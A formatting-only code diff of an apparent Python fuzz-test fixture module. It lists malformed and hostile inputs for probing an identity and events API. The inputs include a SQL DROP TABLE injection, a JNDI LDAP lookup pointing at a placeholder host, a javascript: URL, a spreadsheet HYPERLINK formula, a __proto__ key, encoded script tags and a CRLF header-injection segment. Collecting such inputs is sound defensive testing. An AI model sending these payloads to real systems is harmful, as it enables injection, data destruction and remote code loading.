@@ -1,4 +1,4 @@
-"""What browsers, scanners and malice send, as raw bytes: values, whole bodies, ids, headers, paths; and mutations of them."""
+"""What browsers, scanners and malice send, as raw bytes: values, bodies, ids, headers, paths; mutations of them."""
 
 import gzip
 import json
@@ -8,7 +8,7 @@ from collections.abc import Iterator, Sequence
 from identity.parse import AUTHENTICATE_BYTES_MAX, EVENTS_BYTES_MAX, EVENTS_MAX
 
 TEXTS: dict[str, str] = {
-    "quote": "O'Neil \"Ana\" `x`",
+    "quote": 'O\'Neil "Ana" `x`',
     "sql": "'; DROP TABLE customer; --",
     "sql placeholder": "%s %(rows)s $1 :name ? {0} {{x}}",
     "copy": "\\N\\.\\x00\\u0000",
@@ -37,7 +37,7 @@ TEXTS: dict[str, str] = {
     "slashes": "a/b//c\\d",
     "dots": "..",
     "url": "javascript:alert(1)//http://a.example",
-    "formula": "=HYPERLINK(\"http://a.example\")",
+    "formula": '=HYPERLINK("http://a.example")',
     "jndi": "${jndi:ldap://a.example/x}",
     "email": "ana@shop.example",
     "email folding": "ΐ" * 60 + "@shop.example",
@@ -134,19 +134,34 @@ VALUES: dict[str, bytes] = {
 }
 """One JSON value each, or what passes for one. None is cut off: the members beside it can be told apart."""
 
-PROFILE = b'{"email":"ana@shop.example","firstName":"Ana","phone":"+886912345678","custom":{"points":1},"address":{"city":"X"}}'
+PROFILE = (
+    b'{"email":"ana@shop.example","firstName":"Ana","phone":"+886912345678","custom":{"points":1},'
+    b'"address":{"city":"X"}}'
+)
 IDENTIFY_FIELDS = (
-    "customer_id visitor_id display_name display_email address customerId email name display_mobile phone gender birth birthday "
-    "occurred_at sent_at event event_id params identity_token extra"
-).split()
+    "customer_id", "visitor_id", "display_name", "display_email", "address", "customerId", "email", "name",
+    "display_mobile", "phone", "gender", "birth", "birthday", "occurred_at", "sent_at", "event", "event_id", "params",
+    "identity_token", "extra",
+)  # fmt: skip
 EVENT_FIELDS = (
-    "type event event_id visitor_id customer_id userId externalUserId occurred_at sent_at params profile patch display_name extra"
-).split()
+    "type", "event", "event_id", "visitor_id", "customer_id", "userId", "externalUserId", "occurred_at", "sent_at",
+    "params", "profile", "patch", "display_name", "extra",
+)  # fmt: skip
 PROFILE_FIELDS = (
-    "email firstName lastName phone gender birthDate avatar company companyUrl jobTitle alternateEmail alternatePhone "
-    "interests activities address custom unknown __proto__"
-).split()
-PATCH_PATHS = ("email", "firstName", "address", "address.city", "custom", "custom.points", ".", "unknown.path", "interests")
+    "email", "firstName", "lastName", "phone", "gender", "birthDate", "avatar", "company", "companyUrl", "jobTitle",
+    "alternateEmail", "alternatePhone", "interests", "activities", "address", "custom", "unknown", "__proto__",
+)  # fmt: skip
+PATCH_PATHS = (
+    "email",
+    "firstName",
+    "address",
+    "address.city",
+    "custom",
+    "custom.points",
+    ".",
+    "unknown.path",
+    "interests",
+)
 EVENT_NAMES = ("clIdentity", "userSignedUp", "userSignedIn", "userSignedOut", "userProfileChanged", "pageOpened", "")
 
 
@@ -290,13 +305,14 @@ SEGMENTS: tuple[bytes, ...] = (
     b"%ed%a0%80", b"%f0%9f%98", b"%F0%9F%98%80", b"%", b"%2", b"%zz", b"%25", b"%2500", b"a;b=c", b"a,b", b"'", b"%22",
     b"%27%3B--", b"%3Cscript%3E", b"*", b"{x}", b"{", b"a:b", b"+", b"%20", b"%0d%0aX-Injected:%201", b"%E2%80%AE",
     b"%EF%BB%BF", b"x" * 254, b"x" * 255, b"x" * 5_000, b"%E9%99%88" * 300, b"null", b"undefined", b"0", b"-1",
-    b"00000000-0000-0000-0000-000000000000", b"019f0000-0000-7000-8000-000000000000", b"lookup", b"lookup/", b"lookup/x",
-    b"a/b", b"a/footprint", b"a/explain", b"\xff", b"\xf0\x9f\x98\x80", b"a\tb",
+    b"00000000-0000-0000-0000-000000000000", b"019f0000-0000-7000-8000-000000000000", b"lookup", b"lookup/",
+    b"lookup/x", b"a/b", b"a/footprint", b"a/explain", b"\xff", b"\xf0\x9f\x98\x80", b"a\tb",
 )  # fmt: skip
 
 PARAMETERS = (
-    "customer_id include as_of limit cursor visitor_id channel_id event field verdict reason from to dry_run x"
-).split()
+    "customer_id", "include", "as_of", "limit", "cursor", "visitor_id", "channel_id", "event", "field", "verdict",
+    "reason", "from", "to", "dry_run", "x",
+)  # fmt: skip
 QUERY_VALUES: tuple[bytes, ...] = (
     b"", b"%00", b"a%00b", b"%ff", b"%ed%a0%80", b"%", b"%zz", b"provenance", b"0", b"-1", b"1", b"200", b"201",
     b"9" * 5_000, b"1e400", b"NaN", b"null", b"true", b"%27%3B--", b"%F0%9F%98%80", b"\xff", b"a&a=b", b"a;b", b"+",
